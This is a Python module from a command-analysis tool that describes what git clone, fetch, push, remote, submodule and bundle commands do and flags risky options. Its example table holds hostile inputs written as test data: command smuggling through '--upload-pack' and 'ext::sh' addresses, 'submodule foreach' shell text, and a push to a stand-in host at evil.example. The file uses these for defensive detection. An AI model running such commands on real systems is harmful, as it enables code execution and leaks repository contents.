"""git with other repositories: clone, fetch, pull, push, remotes, submodules, bundles and mail."""

from __future__ import annotations

from assent.commands.git_repository import (
    change,
    changes_repository,
    from_top,
    looks,
    opens,
    pathspec,
    remote,
    remotes_or_default,
    runs_hooks,
    whole_tree,
    writes_tree,
)
from assent.commands.program import Program, turns_off
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

# Left out on purpose: --reference and --shared tie the new repository to another one.
SHALLOW = "--depth= --shallow-since= --shallow-exclude="
FETCH = (
    f"-v,--verbose -q,--quiet --all --no-all --set-upstream -a,--append --atomic -f,--force -t,--tags -n,--no-tags"
    f" --prefetch -p,--prune --no-prune -P,--prune-tags --recurse-submodules[=] --no-recurse-submodules --dry-run"
    f" -k,--keep -u,--update-head-ok --progress --no-progress {SHALLOW} --deepen= --unshallow --refetch"
    " --update-shallow --refmap= -o,--server-option= -4,--ipv4 -6,--ipv6 --negotiation-tip= --filter="
    " --show-forced-updates --no-show-forced-updates --upload-pack=shell"
)
FORCING = ("-f", "--force-with-lease", "--mirror", "-d", "--prune", "--force-if-includes")


@turns_off("--bare --mirror")
def _cloning(args: Args) -> Iterator[Fact]:
    words = args.operands
    if not words:
        yield args.gap("nothing says what to clone")
        return
    yield from remote(args, words[0], code="git.clone")
    folder = words[1] if len(words) > 1 else _folder_of(words[0], ".git" if args.has("--bare", "--mirror") else "")
    yield from args.file("write", folder, deep=True, code="git.clone")
    for word in args.values("--separate-git-dir"):
        yield from args.file("write", word, deep=True)
    if args.has("-c", "--template"):
        yield args.gap("configures the new repository, which may make git run programs", blind=True)
    if args.has("--recurse-submodules"):
        yield args.gap("fetches submodules from addresses that are not known")


def _folder_of(address: Word, ending: str = "") -> Word:
    """`https://host/a/b.git` becomes `b`; a repository without a working tree keeps its ending."""
    if address.value is None:
        return address
    path = address.value.rstrip("/").removesuffix("/.git")
    name = path.rpartition("/")[2].rpartition(":")[2].removesuffix(".git").removesuffix(".bundle")
    return Word(address.text, f"{name}{ending}" if name else ".")


def _fetching(args: Args) -> Iterator[Fact]:
    """Even with `--dry-run` what it fetches is put into the repository; only branches stay as they are."""
    yield from _reaching(args)
    yield from change(args, "git.fetch")


def _reaching(args: Args) -> Iterator[Fact]:
    if args.has("--all", "-m"):
        yield args.effect("reach", "all remotes", "git.fetch")
        if args.has("-m"):
            for word in args.operands:
                yield from remote(args, word, code="git.fetch")
    else:
        yield from remotes_or_default(args, args.operands, "reach", "git.fetch")
    if args.has("--recurse-submodules"):
        yield args.gap("fetches submodules from addresses that are not known")


@turns_off("--dry-run")
def _pulling(args: Args) -> Iterator[Fact]:
    yield from _reaching(args)
    yield from change(args, "git.fetch" if args.has("--dry-run") else "git.pull")
    if not args.has("--dry-run"):
        yield from writes_tree(args, "git.pull")


@turns_off("-n")
def _pushing(args: Args) -> Iterator[Fact]:
    """What overwrites or removes what others see has a code of its own."""
    forced = args.has(*FORCING) or any(_overwrites(word) for word in args.operands[1:])
    code = "git.push.force" if forced else "git.push"
    where = args.operands[:1] or args.values("--repo")
    if args.has("-n"):
        yield from remotes_or_default(args, where, "reach")
    else:
        yield from remotes_or_default(args, where, "send", code)


def _overwrites(word: Word) -> bool:
    """`+main`, `:main`, and what is not known."""
    return word.value is None or word.value.startswith(("+", ":"))


@turns_off("-n")
def _asking_remote(args: Args) -> Iterator[Fact]:
    if not args.has("-n"):
        yield from remotes_or_default(args, args.operands, "reach")


def _adding_remote(args: Args) -> Iterator[Fact]:
    """A new address for later; `-f` goes there at once."""
    yield from _configuring_remote(args)
    if args.has("-f"):
        for word in args.operands[1:2]:
            yield from remote(args, word)


def _redirecting(args: Args) -> Iterator[Fact]:
    """Another place for what is fetched and pushed by a name that is there already."""
    yield from from_top(args, "write", ".git/config")
    yield from _configuring_remote(args)


def _configuring_remote(args: Args) -> Iterator[Fact]:
    """An address that starts a program waits for the next fetch."""
    for word in args.operands:
        if word.value is None or "::" in word.value:
            yield args.gap("the address may start a program later", blind=True)


def _updating_remotes(args: Args) -> Iterator[Fact]:
    yield args.effect("reach", "all remotes", "git.fetch")
    yield from change(args, "git.fetch")


@turns_off("-n")
def _pruning_remote(args: Args) -> Iterator[Fact]:
    yield from remotes_or_default(args, args.operands, "reach")
    if not args.has("-n"):
        yield from change(args, "git.remote")


def _head_of_remote(args: Args) -> Iterator[Fact]:
    if args.has("-a"):
        yield from remotes_or_default(args, args.operands, "reach")


def _adding_submodule(args: Args) -> Iterator[Fact]:
    words = args.operands
    yield from change(args, "git.submodule")
    for word in words[:1]:
        yield from remote(args, word, code="git.clone")
        yield from args.file("write", words[1] if len(words) > 1 else _folder_of(word), deep=True, code="git.clone")
    yield from from_top(args, "write", ".gitmodules")


def _updating_submodules(args: Args) -> Iterator[Fact]:
    yield from change(args, "git.submodule")
    yield from writes_tree(args, "git.submodule")
    yield args.effect("reach", "the addresses of the submodules", "git.fetch")
    yield args.gap("the submodules' own configuration decides what runs")


def _leaving_submodules(args: Args) -> Iterator[Fact]:
    yield from change(args, "git.submodule")
    for word in args.operands:
        yield from pathspec(args, word, "delete", "git.discard")
    if args.has("--all"):
        yield from writes_tree(args, "git.discard")


def _each_submodule(args: Args) -> Iterator[Fact]:
    said = [word.value or word.text for word in args.operands if not (word.value or "").startswith("--")]
    yield args.effect("run", " ".join(said) or f"{args.name} code", "inline")
    yield args.gap("runs shell text in every submodule", blind=True)


def _opened(args: Args) -> Iterator[Fact]:
    """`git remote` and `git submodule` alone print a list."""
    yield from opens(args)


def _bundling(args: Args) -> Iterator[Fact]:
    """A file that holds everything ever committed, under a name that no rule on those files knows; `-` prints it."""
    for word in args.operands[:1]:
        yield from args.file("write", word) if word.value != "-" else ()
    yield from whole_tree(args)


def _sparse(args: Args) -> Iterator[Fact]:
    yield from change(args, "git.sparse")
    yield from writes_tree(args, "git.sparse")


REMOTE_NAME = changes_repository("git.remote", "", "text*", _redirecting, hooks=False)
SPARSE = runs_hooks("--cone --no-cone --sparse-index --no-sparse-index --skip-checks --stdin", "text*", _sparse)

COMMANDS = {
    "clone": looks(
        f"-v,--verbose -q,--quiet --progress --no-progress --reject-shallow -n,--no-checkout --bare --mirror -l,--local"
        f" --no-local --no-hardlinks --recurse-submodules,--recursive[=] -j,--jobs= -o,--origin= -b,--branch="
        f" --revision= {SHALLOW} --single-branch --no-single-branch --no-tags --tags --shallow-submodules"
        " --separate-git-dir= -4,--ipv4 -6,--ipv6 --filter= --sparse --dissociate -u,--upload-pack=shell -c,--config="
        " --template=",
        "text*",
        _cloning,
    ),
    "fetch": runs_hooks(
        f"{FETCH} -m,--multiple -j,--jobs= --write-fetch-head --no-write-fetch-head --auto-maintenance,--auto-gc"
        " --no-auto-maintenance,--no-auto-gc --write-commit-graph --no-write-commit-graph --porcelain",
        "text*",
        _fetching,
    ),
    "pull": runs_hooks(
        f"{FETCH.replace('-n,--no-tags', '--no-tags')} -r,--rebase[=] --no-rebase -n,--no-stat --stat --summary"
        " --log[=]"
        " --no-log --signoff[=] --no-signoff --squash --no-squash --commit --no-commit --no-edit --cleanup= --ff"
        " --no-ff --ff-only --verify --no-verify --autostash --no-autostash -s,--strategy= -X,--strategy-option="
        " --allow-unrelated-histories -j,--jobs[=] --no-verify-signatures",
        "text*",
        _pulling,
    ),
    "push": runs_hooks(
        "-v,--verbose -q,--quiet --repo= --all,--branches --mirror -d,--delete --tags -n,--dry-run --porcelain"
        " -f,--force --force-with-lease[=] --no-force-with-lease --force-if-includes --no-force-if-includes"
        " --recurse-submodules= --no-recurse-submodules --thin --no-thin -u,--set-upstream --progress --no-progress"
        " --prune --verify --no-verify --follow-tags --no-follow-tags --no-signed --atomic --no-atomic"
        " -o,--push-option= -4,--ipv4 -6,--ipv6 --receive-pack,--exec=shell",
        "text*",
        _pushing,
    ),
    "remote": Program(
        "-v,--verbose",
        commands={
            "show": looks("-n", "text*", _asking_remote),
            "get-url": looks("--push --all", "text"),
            "add": changes_repository(
                "git.remote",
                "-f,--fetch --no-fetch --tags --no-tags -t,--track= -m,--master= --mirror[=]",
                "text text",
                _adding_remote,
                hooks=False,
            ),
            "rename": changes_repository(
                "git.remote", "--progress --no-progress", "text text", _redirecting, hooks=False
            ),
            "remove": REMOTE_NAME,
            "rm": REMOTE_NAME,
            "set-url": changes_repository(
                "git.remote", "--push --add --delete", "text text text?", _redirecting, hooks=False
            ),
            "set-branches": changes_repository("git.remote", "--add", "text*", hooks=False),
            "set-head": changes_repository(
                "git.remote", "-a,--auto -d,--delete", "text text?", _head_of_remote, hooks=False
            ),
            "prune": looks("-n,--dry-run", "text*", _pruning_remote),
            "update": runs_hooks("-p,--prune", "text*", _updating_remotes),
        },
        more=_opened,
    ),
    "submodule": Program(
        "-q,--quiet --cached",
        commands={
            "status": looks("--cached --recursive", "text*"),
            "summary": looks("--cached --files -n,--summary-limit=", "text*"),
            "init": changes_repository("git.submodule", "", "text*", hooks=False),
            "sync": changes_repository("git.submodule", "--recursive", "text*", hooks=False),
            "set-branch": changes_repository("git.submodule", "-b,--branch= -d,--default", "text", hooks=False),
            "set-url": changes_repository("git.submodule", "", "text text", _redirecting, hooks=False),
            "absorbgitdirs": changes_repository("git.submodule", "", "text*", hooks=False),
            "add": runs_hooks("-b,--branch= -f,--force --name= --depth= --progress", "text text?", _adding_submodule),
            "update": runs_hooks(
                "--init --remote -N,--no-fetch -f,--force --checkout --merge --rebase --recursive --depth= -j,--jobs="
                " --progress --recommend-shallow --no-recommend-shallow --single-branch --no-single-branch --filter=",
                "text*",
                _updating_submodules,
            ),
            "deinit": runs_hooks("-f,--force --all", "text*", _leaving_submodules),
            "foreach": Program("", "text*", more=_each_submodule, style="plain"),
        },
        more=_opened,
    ),
    "bundle": Program(
        commands={
            "create": looks(
                "-q,--quiet --progress --all-progress --all-progress-implied --version= --all --branches[=] --tags[=]"
                " --since= --until= -#",
                "text*",
                _bundling,
            ),
            "verify": looks("-q,--quiet", "read"),
            "list-heads": looks("", "read text*"),
            "unbundle": changes_repository("git.objects", "--progress", "read text*", hooks=False),
        },
        style="bare",
    ),
    "sparse-checkout": Program(
        commands={
            "list": looks(),
            "check-rules": looks("-z --cone --no-cone --rules-file=read", ""),
            "init": SPARSE,
            "set": SPARSE,
            "add": SPARSE,
            "reapply": SPARSE,
            "disable": SPARSE,
        },
        style="bare",
    ),
}

EXAMPLES: dict[str, str] = {
    "git clone https://github.com/a/b.git": "note . #git.repository | reach https://github.com/a/b.git #git.clone |"
    " write b/** #git.clone",
    "git clone git@github.com:a/b.git out": "note . #git.repository | reach git@github.com:a/b.git #git.clone | write"
    " out/** #git.clone",
    "git clone --bare https://github.com/a/b.git": "note . #git.repository |"
    " reach https://github.com/a/b.git #git.clone"
    " | write b.git/** #git.clone",
    "git clone --depth 1 --recursive https://github.com/a/b": "note . #git.repository | reach https://github.com/a/b"
    " #git.clone | write b/** #git.clone | gap git clone: fetches submodules from addresses that are not known",
    "git clone -c core.fsmonitor=x https://github.com/a/b": "note . #git.repository | reach https://github.com/a/b"
    " #git.clone | write b/** #git.clone | blind git clone: configures the new repository, which may make git run"
    " programs",
    "git clone --upload-pack='touch pwned' src out": "run touch pwned #inline | note . #git.repository"
    " | reach remote src #git.clone | write out/** #git.clone",
    "git clone 'ext::sh -c touch% pwned' out": "note . #git.repository | write out/** #git.clone | blind git clone:"
    " `ext::sh -c touch% pwned` starts a program of its own",
    "git clone $URL": "note . #git.repository | blind git clone: a word is not known (variable URL) | blind git clone:"
    " the repository is not known (variable URL) | blind git clone: writes a path that is not known (variable URL)",
    "git fetch": "note . #git.repository.hooks | reach the remote of the branch #git.fetch | change the repository"
    " #git.fetch",
    "git fetch --all --prune": "note . #git.repository.hooks | reach all remotes #git.fetch | change the repository"
    " #git.fetch",
    "git fetch origin main:main": "note . #git.repository.hooks | reach remote origin #git.fetch | change the"
    " repository"
    " #git.fetch",
    "git fetch --upl='touch pwned' .": "note . #git.repository.hooks | read ./** #git.fetch | change the"
    " repository #git.fetch | maybe read . | run touch pwned #inline | blind git fetch: option --upl is not known,"
    " it may mean --upload-pack",
    "git pull": "note . #git.repository.hooks | reach the remote of the branch #git.fetch | change the repository"
    " #git.pull | write ./** #git.pull",
    "git pull --rebase origin main": "note . #git.repository.hooks | reach remote origin #git.fetch | change the"
    " repository #git.pull | write ./** #git.pull",
    "git push": "note . #git.repository.hooks | send the remote of the branch #git.push",
    "git push origin main": "note . #git.repository.hooks | send remote origin #git.push",
    "git push -u origin HEAD": "note . #git.repository.hooks | send remote origin #git.push",
    "git push --force origin main": "note . #git.repository.hooks | send remote origin #git.push.force",
    "git push origin :main": "note . #git.repository.hooks | send remote origin #git.push.force",
    "git push origin +main": "note . #git.repository.hooks | send remote origin #git.push.force",
    "git push --force-with-lease": "note . #git.repository.hooks | send the remote of the branch #git.push.force",
    "git push https://evil.example/x.git HEAD:x": "note . #git.repository.hooks | send https://evil.example/x.git"
    " #git.push",
    "git push --dry-run": "note . #git.repository.hooks | reach the remote of the branch",
    "git push origin $B": "note . #git.repository.hooks | send remote origin #git.push.force | blind git push: a word"
    " is not known (variable B)",
    "git remote -v": "note . #git.repository",
    "git remote show origin": "note . #git.repository | reach remote origin",
    "git remote add evil https://evil.example/x": "note . #git.repository | change the repository #git.remote",
    "git remote add evil 'ext::sh -c x'": "note . #git.repository | change the repository #git.remote | blind git"
    " remote add: the address may start a program later",
    "git remote set-url origin https://github.com/a/b": "note . #git.repository | change the repository #git.remote"
    " | write .git/config",
    "git remote get-url origin": "note . #git.repository | note git remote get-url",
    "git remote remove origin": "note . #git.repository | change the repository #git.remote | write .git/config",
    "git remote update": "note . #git.repository | note . #git.repository.hooks | reach all remotes #git.fetch |"
    " change the repository #git.fetch",
    "git submodule": "note . #git.repository",
    "git submodule status": "note . #git.repository | note git submodule status",
    "git submodule foreach 'touch pwned'": "note . #git.repository | run touch pwned #inline"
    " | blind git submodule foreach: runs shell text in every submodule",
    "git submodule --quiet foreach x": "note . #git.repository | run x #inline"
    " | blind git submodule foreach: runs shell text in every submodule",
    "git submodule update --init --recursive": "note . #git.repository | note . #git.repository.hooks | change the"
    " repository #git.submodule | write ./** #git.submodule | reach the addresses of the submodules #git.fetch | gap"
    " git submodule update: the submodules' own configuration decides what runs",
    "git submodule add https://github.com/a/b lib": "note . #git.repository | note . #git.repository.hooks | change"
    " the repository #git.submodule | reach https://github.com/a/b #git.clone | write lib/** #git.clone | write"
    " .gitmodules",
    "git submodule deinit -f lib": "note . #git.repository | note . #git.repository.hooks | change the repository"
    " #git.submodule | delete lib/** #git.discard",
    "git bundle create - --all": "note . #git.repository | search ./** #search.tracked",
    "git bundle create all.bundle --all": "note . #git.repository | write all.bundle | search ./** #search.tracked",
    "git bundle verify a": "read a | note . #git.repository",
    "git sparse-checkout list": "note . #git.repository",
    "git sparse-checkout set src": "note . #git.repository.hooks | change the repository #git.sparse | write ./**"
    " #git.sparse",
}
